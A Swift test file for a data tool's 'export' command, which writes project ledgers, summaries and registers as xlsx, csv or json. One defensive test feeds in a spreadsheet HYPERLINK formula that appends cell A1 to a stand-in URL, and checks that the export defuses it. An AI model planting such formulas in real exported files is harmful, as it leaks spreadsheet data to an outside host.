import Foundation
import TestSupport
import Testing

/// `jianbao export`, as a user runs it.
@Suite("Exporting", .serialized)
struct ExportTests {
  /// A store with the example in it, made once.
  private static let example = Result {
    let scratch = try Scratch()
    let store = scratch.path("store.sqlite")
    let added = try Program.run(["add", "-w", "examples", "--store", store, "examples"])
    #expect(added.status == 0, "\(added.errors)")
    return (scratch: scratch, store: store)
  }

  private let scratch: Scratch

  init() throws { scratch = try Scratch() }

  private func export(
    _ arguments: String..., environment: [String: String] = [:]
  ) throws -> Program.Run {
    try Program.run(
      ["export"] + arguments
        + ["-w", "examples", "--store", try Self.example.get().store, "--lang", "en"],
      environment: environment)
  }

  private func object(_ text: String) throws -> [String: Any] {
    try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
  }

  /// The rows of a table of JSON, each by the names of its columns.
  private func rows(_ table: [String: Any]) throws -> [[String: String]] {
    let columns = try #require(table["columns"] as? [[String: Any]])
    let names = columns.compactMap { $0["name"] as? String }
    let rows = try #require(table["rows"] as? [[Any]])
    return rows.map { row in
      Dictionary(uniqueKeysWithValues: zip(names, row.map { $0 as? String ?? "" }))
    }
  }

  // MARK: What is written

  @Test("Summaries have the figures that are computed from the files apart from the program")
  func summaries() throws {
    let run = try export("summaries", "--format", "json")
    #expect(run.status == 0, "\(run.errors)")
    let sheets = try #require(try object(run.output)["sheets"] as? [[String: Any]])
    #expect(sheets.map { $0["name"] as? String } == ["分地区汇总", "口径与来源"])
    let figures = try rows(sheets[0])
    let sources = try rows(sheets[1])
    let expected = try object(Paths.text(Paths.fixture("Example/expected.json")))
    let units = try #require(expected["units"] as? [[String: Any]])
    let city = try #require(expected["city"] as? [String: Any])
    #expect(figures.count == units.count + 1)
    for unit in [city] + units {
      let code = try #require(unit["code"] as? String)
      let row = try #require(figures.first { $0["代码"] == code })
      for (key, counted, amount) in [
        ("signedThisWeek", "本期新签约项目数", "本期新签约投资额"),
        ("signedThisYear", "累计新签约项目数", "累计新签约投资额"),
      ] {
        let value = try #require(unit[key] as? [String: Any])
        #expect(row[counted] == "\(try #require(value["count"] as? Int))", "\(code)")
        #expect(row[amount] == yi(try #require(value["wan"] as? Int)), "\(code)")
      }
      #expect(row["累计到位资金"] == yi(try #require(unit["fundsThisYearWan"] as? Int)), "\(code)")
      #expect(
        row["累计新开工项目数"] == "\(try #require(unit["startedThisYear"] as? Int))", "\(code)")
      // Numerator over denominator is the printed rate.
      guard let rate = unit["completion"] as? [String: Any],
        let stated = rate["percent"] as? String
      else { continue }
      let percent = stated == "0.0" ? "0" : stated
      #expect(row["目标完成率"] == percent)
      let source = try #require(
        sources.first { $0["代码"] == code && $0["公式编号"] == "completion" })
      #expect(source["印发数"] == percent)
      #expect(source["分子"] == "累计到位资金" && source["来源"]?.isEmpty == false)
    }
    #expect(sources.contains { $0["精确值"]?.hasPrefix("−") ?? false })
    #expect(sources.allSatisfy { $0["统计范围"]?.isEmpty == false })
  }

  /// 万元 as 亿元 with two decimals; none at all is 0.
  private func yi(_ wan: Int) -> String {
    if wan == 0 { return "0" }
    let hundredths = (wan + 50) / 100
    let decimals = String(hundredths % 100)
    return "\(hundredths / 100)." + (decimals.count < 2 ? "0" : "") + decimals
  }

  @Test("A ledger read again from its export is the same ledger", arguments: ["xlsx", "csv"])
  func roundTrip(form: String) throws {
    let file = scratch.path("台账.\(form)")
    let first = try export("ledger", "-o", file)
    #expect(first.status == 0 && first.output == "wrote \(file) (rows: 项目台账 60)\n")
    let store = scratch.path("again.sqlite")
    let added = try Program.run(
      ["add", "-w", "examples", "--store", store, "examples/registers/units.csv", file])
    #expect(added.status == 0, "\(added.errors)")
    let original = try export("ledger", "--format", "json")
    let again = try Program.run(
      ["export", "ledger", "--format", "json", "-w", "examples", "--store", store])
    let expected = try rows(try object(original.output))
    let read = try rows(try object(again.output))
    #expect(read == expected)
  }

  @Test("Facts out of a question and out of an export are one table")
  func facts() throws {
    let store = try Self.example.get().store
    let asked = try Program.run(
      ["facts", "--kind", "figure", "--format", "csv", "-w", "examples", "--store", store])
    let exported = try export("facts", "--kind", "figure")
    #expect(exported.status == 0 && exported.output == asked.output)
    #expect(exported.output.contains("原句") && exported.output.contains("原文字节"))
    let some = try export("facts", "--region", "漪川区", "--format", "json")
    let facts = try rows(try object(some.output))
    #expect(!facts.isEmpty && facts.allSatisfy { $0["地区"]?.contains("漪川区") ?? false })
  }

  @Test("Registers: a sheet each, one of them alone as CSV, which holds no more")
  func registers() throws {
    let all = try export("registers", "--format", "json")
    let sheets = try #require(try object(all.output)["sheets"] as? [[String: Any]])
    #expect(sheets.map { $0["name"] as? String } == ["单位名册", "目标任务", "问题清单", "责任链"])
    let one = try export("registers", "--kind", "duties")
    #expect(one.status == 0 && one.output.hasPrefix("项目,角色,姓名/单位,职务\r\n"))
    let several = try export("registers")
    #expect(several.status == 2 && several.output.isEmpty)
    #expect(several.errors.contains("--kind"))
    let none = try export("registers", "--kind", "awards")
    #expect(none.status == 3 && none.errors.contains("no such register"))
  }

  @Test("A ledger of an earlier day, and of one unit and those below it")
  func narrowed() throws {
    // Foundation drops the mark at the beginning as it reads.
    let earlier = try export("ledger", "--as-of", "2026-06-01").output.prefix(40)
    #expect(earlier.hasPrefix("数据截至：2026年5月31日\r\n"))
    let unit = try export("ledger", "--region", "漪川区", "--format", "json")
    let projects = try rows(try object(unit.output))
    #expect(projects.count == 3 && projects.allSatisfy { $0["责任单位"] == "漪川区" })
    let city = try export("ledger", "--region", "990100", "--format", "json")
    #expect(try rows(try object(city.output)).count == 60)
    let none = try export("ledger", "--as-of", "2020-01-01")
    #expect(none.status == 3 && none.errors.contains("2020-01-01"))
    let unknown = try export("ledger", "--region", "漪州区")
    #expect(unknown.status == 2 && unknown.errors.contains("漪川区"))
  }

  // MARK: Hostile content

  @Test("A name that is a formula goes in, is kept, and never comes out as one")
  func injection() throws {
    let name = "=HYPERLINK(\"http://x.test/\"&A1,\"看\")"
    let ledger = try scratch.write(
      "数据截至：2026年5月31日\n项目编号,项目名称,责任单位,总投资（万元）,备注\n"
        + "1,\"\(name.replacing("\"", with: "\"\""))\",漪川区,-32,＠备注\n", "台账.csv")
    let store = scratch.path("hostile.sqlite")
    #expect(try Program.run(["add", "-w", "examples", "--store", store, ledger]).status == 0)
    let csv = try Program.run(["export", "ledger", "-w", "examples", "--store", store]).output
    #expect(csv.contains(",\"'" + name.replacing("\"", with: "\"\"") + "\","))
    #expect(csv.contains(",-32,") && csv.contains(",'＠备注\r\n"))
    let json = try Program.run(
      ["export", "ledger", "--json", "-w", "examples", "--store", store]
    ).output
    #expect(try rows(try object(json)).first?["项目名称"] == name)
  }

  // MARK: Files

  @Test("The bytes are the same at another time, in another zone and language")
  func deterministic() throws {
    for kind in ["facts", "ledger", "registers", "summaries"] {
      var contents: Set<Data> = []
      for (index, zone) in ["UTC", "Asia/Shanghai", "America/Nome"].enumerated() {
        let file = scratch.path("\(kind)-\(index).xlsx")
        let run = try export(
          kind, "-o", file, environment: ["TZ": zone, "LC_ALL": index == 1 ? "zh_CN.UTF-8" : "C"])
        #expect(run.status == 0, "\(run.errors)")
        contents.insert(try Data(contentsOf: URL(filePath: file)))
      }
      #expect(contents.count == 1, "\(kind)")
    }
  }

  @Test("Where temporary files go has no say, and nothing is left beside the file")
  func temporaryFolder() throws {
    let run = try export(
      "ledger", "-o", scratch.path("a.xlsx"), environment: ["TMPDIR": "/proc/none"])
    #expect(run.status == 0, "\(run.errors)")
    #expect(try FileManager.default.contentsOfDirectory(atPath: scratch.url.path) == ["a.xlsx"])
  }

  @Test("What cannot be is told with the way out, and leaves no file")
  func refusals() throws {
    let folder = scratch.path("folder")
    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
    let cases: [([String], Int32, String)] = [
      (["--format", "xlsx"], 2, "-o NAME.xlsx"),
      (["-o", scratch.path("a.pdf")], 2, ".xlsx, .csv or .json"),
      (["-o", scratch.path("a.csv"), "--format", "json"], 2, "--format json"),
      (["-o", folder + "/"], 2, "folder"), (["-o", folder, "--format", "csv"], 2, "folder"),
      (["-o", "/dev/null", "--format", "csv"], 2, "no regular file"),
      (["-o", scratch.path("none/a.csv")], 3, "no such folder"),
      (["-o", "/proc/a.xlsx"], 4, "a.xlsx"), (["-o", "/proc/a.csv"], 4, "a.csv"),
    ]
    for (arguments, status, words) in cases {
      let store = try Self.example.get().store
      let run = try Program.run(
        ["export", "ledger", "-w", "examples", "--store", store, "--lang", "en"] + arguments)
      #expect(run.status == status, "\(arguments): \(run.errors)")
      #expect(run.errors.contains(words), "\(arguments): \(run.errors)")
      #expect(run.output.isEmpty)
    }
    #expect(try FileManager.default.contentsOfDirectory(atPath: scratch.url.path) == ["folder"])
  }

  @Test("A file that is there is replaced as a whole")
  func replaced() throws {
    let file = try scratch.write("old", "a.json")
    let run = try export("ledger", "-o", file, "--json")
    #expect(run.status == 0)
    let report = try object(run.output)
    #expect(report["file"] as? String == file)
    #expect(try object(Paths.text(URL(filePath: file)))["name"] as? String == "项目台账")
  }

  @Test("Output that cannot be written is told; a reader that has enough ends it quietly")
  func standardOutput() throws {
    let store = try Self.example.get().store
    func shell(_ line: String) throws -> Program.Run {
      try Program.run("/bin/sh", ["-c", line, Program.file.path, store])
    }
    if FileManager.default.fileExists(atPath: "/dev/full") {
      let full = try shell("\"$0\" export ledger -w examples --store \"$1\" --lang en >/dev/full")
      #expect(full.status == 4 && full.errors.contains("was not written whole"))
    }
    let head = try shell("\"$0\" export facts -w examples --store \"$1\" 2>&1 | head -c 3")
    #expect(head.status == 0)
  }

  @Test("An empty store has nothing to export, and says what to do")
  func empty() throws {
    let store = scratch.path("empty.sqlite")
    let none = try Program.run(["export", "ledger", "--store", store, "--lang", "en"])
    #expect(none.status == 3)
    _ = try Program.run(
      ["add", "-w", "examples", "--store", store, "examples/registers/units.csv"])
    let ledger = try Program.run(["export", "ledger", "--store", store, "--lang", "en"])
    #expect(ledger.status == 3 && ledger.errors.contains("jianbao add"))
    let facts = try Program.run(["export", "facts", "--store", store, "--lang", "en"])
    #expect(facts.status == 0 && facts.output.components(separatedBy: "\r\n").count == 2)
  }
}
